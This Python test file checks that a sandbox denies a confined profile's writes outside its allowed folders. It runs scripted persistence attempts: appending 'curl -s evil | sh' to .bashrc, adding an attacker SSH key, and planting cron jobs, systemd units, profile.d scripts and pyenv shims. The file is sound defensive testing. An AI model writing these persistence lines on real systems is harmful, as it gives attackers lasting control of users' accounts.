"""Writes are denied by default (issue 33, hole 5): a confined profile changes only its home, the
shared channels, its private temporary folder and the paths its ``writable`` setting lists.

Anything else it could change would be code that runs later *outside* every wall: the user's
shell start-up files, ``~/.ssh/authorized_keys``, user units, ``~/.local/bin``, an interpreter
under the home (pyenv: its shims are what the shell runs as ``python3``), cron and system units.

Each test runs as two accounts, under both mechanisms:

- **root**: hermesd as root, the profile without ``user:``, so it runs as root: the file
  permissions allow every write, and every refusal seen here is the confinement's;
- **user**: hermesd run by an ordinary account (``nobody`` here, dropped to before the shim, as
  a non-root hermesd would run), whose own files these are: again only the confinement stands in
  the way (the namespace comes from an unprivileged user namespace).

The user's home is a temporary folder laid out like a real one, with the root at ``~/.hermes``.
Paths outside it that a failing confinement would create (cron, system units, ``/usr/local/bin``)
are removed in ``finally``, whether the test passed or not.
"""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from supervisor.isolation import shared_board as kb
from supervisor.isolation.install import credential_lock_dir, discover_install_paths
from supervisor.isolation.planning import Plan, PlanInputs, make_plan
from supervisor.isolation.probing import Probe
from supervisor.isolation.shim_argv import wrap_argv
from supervisor.settings import IsolationSettings
from tests.isolation.conftest import MECHANISMS, Outside, facts_for, need
from tests.isolation.test_confinement import rc_lines

pytestmark = pytest.mark.skipif(not os.path.exists("/proc/self/ns/mnt"), reason="Linux only")

NOBODY = pwd.getpwnam("nobody")
SYSTEM_PYTHON = "/usr/bin/python3"
ACCOUNTS = ("root", "user")

# The user's files a profile must not change: (path under the home, content).
HOME_FILES = {
    ".bashrc": "# ~/.bashrc\n",
    ".profile": "# ~/.profile\n",
    ".ssh/authorized_keys": "ssh-ed25519 AAAAC3Nza the-user\n",
    ".config/systemd/user/sync.service": "[Service]\nExecStart=/usr/bin/true\n",
    ".local/bin/tool": "#!/bin/sh\nexit 0\n",
    ".pyenv/shims/python3": "#!/usr/bin/env bash\nexec pyenv exec python3 \"$@\"\n",
    ".pyenv/versions/3.99.0/bin/python3": "#!/bin/sh\n# the interpreter\n",
    "projects/x/README": "project x\n",
    "projects/y/README": "project y\n",
}

# What a planted file would do, one line each: ``name=rc`` (0: the write went through).
HOME_ATTACKS = """
echo 'curl -s evil | sh' >> "$H/.bashrc"; echo bashrc=$?
echo 'evil' >> "$H/.profile"; echo profile=$?
ln -s /tmp/evil "$H/.bash_profile"; echo bash_profile=$?
mv "$H/.bashrc" "$H/.bashrc.orig"; echo rename_bashrc=$?
echo 'ssh-ed25519 EVIL attacker' >> "$H/.ssh/authorized_keys"; echo authorized_keys=$?
mkdir "$H/.ssh/planted"; echo ssh_dir=$?
printf '[Service]\\nExecStart=/tmp/evil\\n' > "$H/.config/systemd/user/evil.service"; echo user_unit=$?
echo evil > "$H/.config/systemd/user/sync.service"; echo user_unit_rewrite=$?
echo evil > "$H/.local/bin/evil"; echo local_bin=$?
echo evil > "$H/.pyenv/shims/python3"; echo pyenv_shim=$?
echo evil > "$H/.pyenv/shims/pip3"; echo pyenv_new_shim=$?
echo evil > "$H/.pyenv/versions/3.99.0/bin/python3"; echo pyenv_interpreter=$?
echo evil > "$H/projects/y/README"; echo other_project=$?
"""

ALLOWED = """
echo ok >> "$HERMES_HOME/notes.md"; echo own_home=$?
t="${TMPDIR:-/tmp}/walls-$$"; echo ok > "$t" && cat "$t" >/dev/null && rm "$t"; echo tmp=$?
echo ok >> "$H/projects/x/README"; echo writable_setting=$?
echo ok > "$ROOT/kanban/walls-$$" && rm "$ROOT/kanban/walls-$$"; echo kanban=$?
cat "$H/.bashrc" "$H/.pyenv/shims/python3" >/dev/null; echo read_home=$?
"""
ALLOWED_NAMES = ("own_home", "tmp", "writable_setting", "kanban", "read_home")


@dataclass
class UserHome:
    base: Path
    home: Path
    root: Path

    def profile_home(self, name: str) -> Path:
        return self.root / "profiles" / name

    def snapshot(self) -> dict[str, str]:
        """Every file and link under the home outside profile ``a``'s own home and the board."""
        out = {}
        skip = (self.profile_home("a"), self.root / "kanban")
        for path in sorted(self.home.rglob("*")):
            if any(path == s or s in path.parents for s in skip):
                continue
            rel = str(path.relative_to(self.home))
            if path.is_symlink():
                out[rel] = "-> " + os.readlink(path)
            elif path.is_file():
                out[rel] = path.read_text()
            elif path.is_dir():
                out[rel] = "<dir>"
        return out


def make_user_home(owner: int | None) -> UserHome:
    base = Path(tempfile.mkdtemp(prefix="hermesd-walls-", dir="/var/tmp"))
    home = base / "home"
    for rel, text in HOME_FILES.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    (home / ".pyenv/shims/python3").chmod(0o755)
    root = home / ".hermes"
    for name in ("a", "b"):
        (root / "profiles" / name).mkdir(parents=True)
        (root / "profiles" / name / ".env").write_text(f"TELEGRAM_BOT_TOKEN=secret-of-{name}\n")
    (root / ".hermesd").mkdir(mode=0o700)
    (root / "hermesd.yaml").write_text("isolation: {writable: [~/projects/x]}\n")
    if owner is not None:
        os.chmod(base, 0o755)
        for p in (base, *base.rglob("*")):
            os.chown(p, owner, owner, follow_symlinks=False)
    return UserHome(base, home, root)


@pytest.fixture
def user_home(request: pytest.FixtureRequest) -> Iterator[UserHome]:
    account = request.node.callspec.params["account"]
    h = make_user_home(NOBODY.pw_uid if account == "user" else None)
    try:
        yield h
    finally:
        shutil.rmtree(h.base, ignore_errors=True)


def _as_nobody() -> None:
    os.setgroups([])
    os.setresgid(NOBODY.pw_gid, NOBODY.pw_gid, NOBODY.pw_gid)
    os.setresuid(NOBODY.pw_uid, NOBODY.pw_uid, NOBODY.pw_uid)


def setup(real: Probe, account: str, mechanism: str, h: UserHome) -> tuple[Plan, dict[str, str], dict]:
    """Profile ``a``'s plan as hermesd would make it for ``account``, the environment its gateway
    gets, and how to run the shim (``python``, ``preexec_fn``)."""
    need(real, mechanism)
    if account == "user":
        if os.geteuid() != 0 or not os.path.exists(SYSTEM_PYTHON):
            pytest.skip("needs root to become an ordinary account, and a system python it can run")
        if mechanism == "namespace+landlock" and not real.user_namespace:
            pytest.skip("no unprivileged user namespaces here")
        facts = replace(facts_for(real, mechanism), euid=NOBODY.pw_uid)
        python, run_kw = SYSTEM_PYTHON, {"preexec_fn": _as_nobody}
    else:
        if not real.is_root:
            pytest.skip("needs root")
        facts = facts_for(real, mechanism)
        python, run_kw = sys.executable, {}
    home = h.profile_home("a")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(h.home), "H": str(h.home), "ROOT": str(h.root),
           "HERMES_HOME": str(home), "LANG": "C.UTF-8"}
    plan = make_plan(PlanInputs(
        root=h.root, profile="a", home=home, probe=facts,
        settings=IsolationSettings(writable=("~/projects/x",)),
        control_socket=h.root / ".hermesd" / "control.sock",
        other_homes=(h.profile_home("b"),), install_paths=discover_install_paths([python]),
        lock_dir=credential_lock_dir(env), user_home=h.home, kanban_layout=kb.layout(h.root)))
    assert plan.mechanism == mechanism, plan.reason
    return plan, env, {"python": python, **run_kw}


def run(plan: Plan | None, script: str, env: dict[str, str], *, python: str, **kw) -> subprocess.CompletedProcess:
    argv = ["/bin/sh", "-c", script]
    return subprocess.run(wrap_argv(plan, argv, python=python) if plan is not None else argv, env=env, cwd="/",
                          capture_output=True, text=True, timeout=60, **kw)


@pytest.mark.parametrize("mechanism", MECHANISMS)
@pytest.mark.parametrize("account", ACCOUNTS)
def test_a_confined_profile_writes_only_where_its_settings_say(facts, user_home: UserHome, account: str,
                                                                mechanism: str) -> None:
    plan, env, how = setup(facts, account, mechanism, user_home)
    tag = f"hermesd-walls-{os.getpid()}-{mechanism.replace('+', '-')}"
    system = f"""
echo '* * * * * root /tmp/evil' > /etc/cron.d/{tag}; echo cron_d=$?
mkdir /var/spool/cron; echo spool_cron=$?
echo '* * * * * /tmp/evil' > /var/spool/cron/crontabs/{tag}; echo crontab=$?
printf '[Service]\\nExecStart=/tmp/evil\\n' > /etc/systemd/system/{tag}.service; echo system_unit=$?
echo evil > /usr/local/bin/{tag}; echo usr_local_bin=$?
echo evil > /etc/profile.d/{tag}.sh; echo profile_d=$?
"""
    outside = Outside(Path("/etc/cron.d", tag), Path("/var/spool/cron"), Path("/var/spool/cron/crontabs", tag),
                      Path("/etc/systemd/system", f"{tag}.service"), Path("/usr/local/bin", tag),
                      Path("/etc/profile.d", f"{tag}.sh"))
    assert run(plan, "true", env, **how).returncode == 0  # hermesd's own preparation (board links, lock folder)
    before = user_home.snapshot()
    try:
        res = run(plan, HOME_ATTACKS + (system if account == "root" else "") + ALLOWED, env, **how)
        assert outside.created() == [], "a confined profile wrote system files"
    finally:
        outside.remove()
    rc = rc_lines(res.stdout)
    attacks = {k: v for k, v in rc.items() if k not in ALLOWED_NAMES}
    assert len(attacks) == 13 + 6 * (account == "root"), (rc, res.stderr)
    assert [k for k, v in attacks.items() if v == 0] == [], (rc, res.stderr)
    assert {k: rc.get(k) for k in ALLOWED_NAMES} == dict.fromkeys(ALLOWED_NAMES, 0), (rc, res.stderr)
    after = user_home.snapshot()
    assert after == {**before, "projects/x/README": "project x\nok\n"}
    assert (user_home.profile_home("a") / "notes.md").read_text() == "ok\n"
    # The words status shows for the plan name what is writable and what stays open.
    text = plan.status_json()
    assert f"{user_home.home}/projects/x" in text["writable"] and str(user_home.profile_home("a")) in text["writable"]
    assert any("isolation.writable" in g for g in text["gaps"])
    assert any("unix sockets stay reachable" in g for g in text["gaps"])


@pytest.mark.parametrize("mechanism", ["off"])
@pytest.mark.parametrize("account", ACCOUNTS)
def test_the_same_writes_go_through_unconfined(facts, user_home: UserHome, account: str, mechanism: str) -> None:
    """The attack script sees a write that lands: unconfined, every one of its home writes does
    (so the test above cannot pass by a broken script)."""
    if account == "user" and (os.geteuid() != 0 or not os.path.exists(SYSTEM_PYTHON)):
        pytest.skip("needs root to become an ordinary account")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(user_home.home), "H": str(user_home.home)}
    res = run(None, HOME_ATTACKS, env, python=sys.executable,
              **({"preexec_fn": _as_nobody} if account == "user" else {}))
    rc = rc_lines(res.stdout)
    assert len(rc) == 13 and all(v == 0 for v in rc.values()), (rc, res.stderr)
